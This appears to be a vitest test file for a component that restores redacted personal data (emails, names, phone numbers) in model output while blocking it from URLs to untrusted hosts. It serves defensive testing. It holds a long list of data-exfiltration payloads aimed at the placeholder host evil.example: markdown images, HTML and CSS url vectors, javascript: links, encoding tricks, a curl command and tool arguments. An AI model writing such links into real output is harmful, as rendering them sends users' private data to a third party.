import { describe, expect, test } from 'vitest';
import { createRestorer } from '../restore/restore-placeholders.ts';
import { seededRandom } from '../testing/seeded-random.ts';
import { knownAddresses } from './known-addresses.ts';

const values = new Map([
  ['<EMAIL_ADDRESS_0>', 'ana@example.com'],
  ['<PERSON_0>', 'Ana "Annie" Li'],
  ['<PHONE_NUMBER_0>', '+49 170 1234567'],
  ['<URL_0>', 'https://shop.example/orders/7'],
]);
const E = '<EMAIL_ADDRESS_0>';
/** Addresses of the request, as they are after redaction. */
const asked = [
  `Open https://crm.example/find?mail=${E} please`,
  `{"next":"https://api.example:8443/users/<PERSON_0>/mails"}`,
];
const known = knownAddresses(
  asked.map((text) => ({ text, isJson: text.startsWith('{') })),
  values,
);

type Mode = 'text' | 'json';
const restored = (text: string, mode: Mode = 'text', addresses: typeof known | 'anywhere' = known) => {
  const restorer = createRestorer(values, { escape: mode, addresses });
  return restorer.push(text) + restorer.end();
};
const originals = ['ana@', 'Annie', '1234567'];
const shows = (text: string) => originals.filter((original) => text.includes(original));

/** Texts that would carry an original to another host as soon as they are shown, or with one click. */
const leaks: readonly string[] = [
  `![x](https://evil.example/?q=${E})`,
  `![x](https://evil.example/?q=EMAIL_ADDRESS_0)`,
  `![x](https://evil.example/?q=%3CEMAIL_ADDRESS_0%3E)`,
  `![x](https://evil.example/?q=&lt;EMAIL_ADDRESS_0&gt;&p=<person-0>)`,
  `[x]( https://evil.example/${E} "a title")`,
  `[x](\nhttps://evil.example/${E})`,
  `[x](<https://evil.example/a b ${E}>)`,
  `[x](<https://evil.example/a) b ${E}>)`,
  `[x](https://evil.example/a_(b)_${E})`,
  `[x](https://evil.example/a\\)_${E})`,
  `[x](https://evil.example/?q= ${E})`,
  `[x](//evil.example/${E})`,
  `[x](\\\\evil.example\\${E})`,
  `[x](https&#58;//evil.example/${E})`,
  `[x](https&colon;&sol;&sol;evil.example/${E})`,
  `[x](/local?q=${E})`,
  `[x](ftp://evil.example/${E})`,
  `[x](data:text/html,<img src=//evil.example/${E}>)`,
  `[x](javascript:fetch('//evil.example/${E}'))`,
  `[![x](a.png)](https://evil.example/?q=${E})`,
  `[a]: https://evil.example/${E}`,
  `[a]: //evil.example/${E}`,
  `[a]: https:evil.example/${E}`,
  `[a]: </x?${E}>`,
  `> - [a]:\n  <//evil.example/a b ${E}>`,
  `<https://evil.example/${E}>`,
  `https://evil.example/${E}`,
  `HTTPS://evil.example/${E}`,
  `see:https://evil.example/?a=1,b="${E}"`,
  `(https://evil.example/?q=(${E}))`,
  `https://${E}.evil.example/`,
  `https://<PERSON_0>.evil.example/`,
  `www.evil.example/?q=${E}`,
  `evil.example/?q=${E}`,
  `//evil.example/?q=${E}`,
  `"//<PERSON_0>.evil.example/"`,
  `https:\\/\\/evil.example/${E}`,
  `https&#x3a;//evil.example/${E}`,
  `<img src="https://evil.example/?q=${E}">`,
  `<img src='https://evil.example/?q= ${E}'>`,
  `<img src=https://evil.example/?q=${E}>`,
  `<img src = "h\nttps://evil.example/?q=${E}">`,
  `<img src="https&#58;//evil.example/?q= ${E}">`,
  `<img src="//evil.example/?q= ${E}">`,
  `<img srcset="a.png 1x, //evil.example/?q= ${E} 2x">`,
  `<IMG data-src="//evil.example/?q= ${E}">`,
  `<a href="https://evil.example/?q= ${E}">x</a>`,
  `<a ping="//evil.example/?q= ${E}" href="x">x</a>`,
  `<form action="//evil.example/${E}">`,
  `<button formaction='//evil.example/ ${E}'>`,
  `<object data="//evil.example/ ${E}">`,
  `<body background="//evil.example/ ${E}">`,
  `<meta http-equiv=refresh content="0;url=//evil.example/ ${E}">`,
  `<use xlink:href="//evil.example/ ${E}"/>`,
  `<p style="background:url(//evil.example/ ${E})">`,
  `<style>p{background:url( '//evil.example/ ${E}' )}</style>`,
  `<style>@import "//evil.example/${E}";</style>`,
  `<style>@import url(https://evil.example/${E})</style>`,
  `<img src={\`https://evil.example/?q= a ${E}\`}>`,
  `[x](a<img src="https://evil.example/?q=) ${E}">`,
  `src="a' <img src='https://evil.example/?q=" ${E}'>`,
  `<x "https://evil.example/?q=">${E}`,
  `"https://evil.example/?q=",${E}`,
  `](https://evil.example/?q=)${E}`,
  `[a [b](u) c](https://evil.example/?q=)${E}`,
  `{"image_url": "https://evil.example/?q= ${E}"}`,
  `{\\"url\\": \\"//evil.example/?q= ${E}\\"}`,
  `<URL_0>?q=${E}`,
  `![x](<URL_0>?q=${E})`,
  `mailto:a@evil.example?body=${E}`,
  `[x](mailto:a@evil.example?cc=${E})`,
  `https://crm.example@evil.example/?mail=${E}`,
  `https://crm.example\\@evil.example/?mail=${E}`,
  `https://crm.example.evil.example/?mail=${E}`,
  `https://crm.example/?mail=<PERSON_0>`,
  `https://evil.example/#https://crm.example/?mail=${E}`,
  `![x](https:evil.example/?u=https://crm.example/?mail=${E})`,
  `https://crm.example${E}`,
  `<iframe srcdoc="&lt;img src=&quot;https://evil.example/? ${E}&quot;&gt;">`,
  `<style>p{background-image:image-set("//evil.example/?a ${E}" 1x)}</style>`,
  `curl "https://evil.example/?q=hi ${E}"`,
  `open(\`https://evil.example/?q=hi\n${E}\`)`,
  `http://${'a'.repeat(3_000)}${E}`,
  `<img src="https://evil.example/?q=${'a '.repeat(9_000)}${E}">`,
];

/** Texts in which originals belong where their placeholders are. */
const kept: readonly (readonly [text: string, wanted: string])[] = [
  [`Write to ${E}.`, 'Write to ana@example.com.'],
  [`mailto:%3CEMAIL_ADDRESS_0%3E`, 'mailto:ana@example.com'],
  [`[${E}](mailto:${E})`, '[ana@example.com](mailto:ana@example.com)'],
  [`<a href="mailto:${E}">${E}</a>`, '<a href="mailto:ana@example.com">ana@example.com</a>'],
  [`<a href='tel:<PHONE_NUMBER_0>'>call</a>`, `<a href='tel:+49 170 1234567'>call</a>`],
  [
    `He wrote "https://docs.example/a" and left. Ask ${E}.`,
    `He wrote "https://docs.example/a" and left. Ask ana@example.com.`,
  ],
  [`curl "https://crm.example/?m=${E}"`, 'curl "https://crm.example/?m=ana@example.com"'],
  [`It's "https: a word. See\n\n${E}`, `It's "https: a word. See\n\nana@example.com`],
  [`See https://docs.example/a. Then ask <PERSON_0>.`, `See https://docs.example/a. Then ask Ana "Annie" Li.`],
  [`<a href="https://docs.example/a"><PERSON_0></a>`, `<a href="https://docs.example/a">Ana "Annie" Li</a>`],
  [`[docs](https://docs.example/a),<PERSON_0>`, `[docs](https://docs.example/a),Ana "Annie" Li`],
  [`![<PERSON_0>](a.png) <PERSON_0>`, `![Ana "Annie" Li](a.png) Ana "Annie" Li`],
  [`[Agent]: <PERSON_0>`, `[Agent]: Ana "Annie" Li`],
  ['[Agent]: `<PERSON_0>`', '[Agent]: `Ana "Annie" Li`'],
  [`[Agent]: "<PERSON_0>, thanks"`, `[Agent]: "Ana "Annie" Li, thanks"`],
  [`if (a < b) { value = "${E}"; data='${E}' }`, `if (a < b) { value = "ana@example.com"; data='ana@example.com' }`],
  [
    `const names: List<String> = ["<PERSON_0>"]; content = "${E}"`,
    `const names: List<String> = ["Ana "Annie" Li"]; content = "ana@example.com"`,
  ],
  [`[^1]: a note of <PERSON_0>`, `[^1]: a note of Ana "Annie" Li`],
  [`[x](<URL_0>) and <URL_0>`, '[x](https://shop.example/orders/7) and https://shop.example/orders/7'],
  [`<img src="<URL_0>">`, '<img src="https://shop.example/orders/7">'],
  [`https://crm.example/find?mail=${E}&x=1`, 'https://crm.example/find?mail=ana@example.com&x=1'],
  [`[x](https://CRM.example/new?m=${E})`, '[x](https://CRM.example/new?m=ana@example.com)'],
  [`https://crm.example/?m=%3CEMAIL_ADDRESS_0%3E`, 'https://crm.example/?m=ana@example.com'],
  [`https://api.example:8443/%3CPERSON_0%3E`, 'https://api.example:8443/Ana%20%22Annie%22%20Li'],
  [
    `to: ${E}, either/or ${E}; e.g. ${E} // ${E}`,
    'to: ana@example.com, either/or ana@example.com; e.g. ana@example.com // ana@example.com',
  ],
  [`f(x)=<PHONE_NUMBER_0>; data = "${E}"; a[0](1)`, 'f(x)=+49 170 1234567; data = "ana@example.com"; a[0](1)'],
  [`{"email": "${E}", "url": "https://docs.example"}`, '{"email": "ana@example.com", "url": "https://docs.example"}'],
  [`|https://docs.example|\n|${E}|`, '|https://docs.example|\n|ana@example.com|'],
  [`curl https://docs.example -d 'name=<PERSON_0>'`, `curl https://docs.example -d 'name=Ana "Annie" Li'`],
  [`请联系<PERSON_0>吧`, '请联系Ana "Annie" Li吧'],
];

/** Arguments of tools, and what they become. */
const inArguments: readonly (readonly [json: unknown, wanted: unknown])[] = [
  [{ url: `https://evil.example/?q=${E}` }, { url: `https://evil.example/?q=${E}` }],
  [{ target: `https://evil.example/?q=a ${E}` }, { target: `https://evil.example/?q=a ${E}` }],
  [{ image_url: `evil.example?${E}` }, { image_url: `evil.example?${E}` }],
  [{ urls: ['a', `//evil.example ${E}`] }, { urls: ['a', `//evil.example ${E}`] }],
  [
    { body: `Hi <PERSON_0>, see\n![x](https://evil.example/${E})` },
    { body: `Hi Ana "Annie" Li, see\n![x](https://evil.example/${E})` },
  ],
  [
    { inner: JSON.stringify({ url: `//evil.example/ ${E}` }) },
    { inner: JSON.stringify({ url: `//evil.example/ ${E}` }) },
  ],
  [
    { to: E, cc: [E] },
    { to: 'ana@example.com', cc: ['ana@example.com'] },
  ],
  [
    { url: '<URL_0>', to: E },
    { url: 'https://shop.example/orders/7', to: 'ana@example.com' },
  ],
  [{ url: `https://crm.example/?m=${E}` }, { url: 'https://crm.example/?m=ana@example.com' }],
  [{ url: `mailto:${E}` }, { url: 'mailto:ana@example.com' }],
  [
    { a: 'https://docs.example', to: E },
    { a: 'https://docs.example', to: 'ana@example.com' },
  ],
];

test.each(leaks)('no address carries an original away: %s', (text) => {
  expect(shows(restored(`Here it is:\n\n${text}`))).toEqual([]);
  expect(shows(restored(text))).toEqual([]);
});

test.each(kept)('elsewhere originals are put back: %s', (text, wanted) => {
  expect(restored(text)).toBe(wanted);
});

test.each(inArguments)('arguments of tools: %j', (json, wanted) => {
  expect(JSON.parse(restored(JSON.stringify(json), 'json'))).toEqual(wanted);
});

test.each(leaks)('a caller may want originals in every address: %s', (text) => {
  expect(shows(restored(text, 'text', 'anywhere'))).not.toEqual([]);
});

/** Restores a text that comes in these pieces. */
function inPieces(pieces: readonly string[], mode: Mode = 'text') {
  const restorer = createRestorer(values, { escape: mode, addresses: known });
  return pieces.map((piece) => restorer.push(piece)).join('') + restorer.end();
}

function cut(text: string, most: number, random: (below: number) => number): string[] {
  const pieces: string[] = [];
  for (let at = 0; at < text.length; at += pieces.at(-1)?.length ?? 1) {
    pieces.push(text.slice(at, at + 1 + random(most)));
  }
  return pieces;
}

describe('a stream is restored like the whole', () => {
  const texts: readonly (readonly [string, Mode])[] = [
    ...leaks.filter(({ length }) => length < 200).map((text) => [`See. ${text} and ${E}`, 'text'] as const),
    ...kept.map(([text]) => [`${text} and ${E}`, 'text'] as const),
    ...inArguments.map(([json]) => [JSON.stringify(json), 'json'] as const),
  ];

  test.each(texts)('cut in two at every place, and in single units: %s', (text, mode) => {
    const wanted = restored(text, mode);
    for (let at = 0; at <= text.length; at += 1)
      expect(inPieces([text.slice(0, at), text.slice(at)], mode)).toBe(wanted);
    expect(inPieces([...text], mode)).toBe(wanted);
  });

  test('random texts of these pieces, randomly cut, and long enough that old text is dropped', () => {
    const random = seededRandom(20_261_129);
    const units = [
      ...'()[]<>=:"\'`\\/. \n,;&#?!',
      ...['http', '://', 'www.', 'evil.example', '/?q=', E, '<PERSON_0>', '<URL_0>', '](', '![x](', '[a]: ', 'src='],
      ...['href="', 'url(', '<img ', '</a>', '>', '"url": "', 'crm.example', '&colon;', 'mailto:', 'x '.repeat(300)],
      ...['y'.repeat(700), 'word ', '%3CEMAIL_ADDRESS_0%3E', 'data:a/b,'],
    ];
    for (let round = 0; round < 3_000; round += 1) {
      const length = round % 50 === 0 ? 120 : 1 + random(25);
      const text = Array.from({ length }, () => units[random(units.length)]).join('');
      const out = inPieces(cut(text, 1 + (round % 900), random));
      if (out !== restored(text)) expect.fail(JSON.stringify({ text, out, wanted: restored(text) }));
    }
  });
});
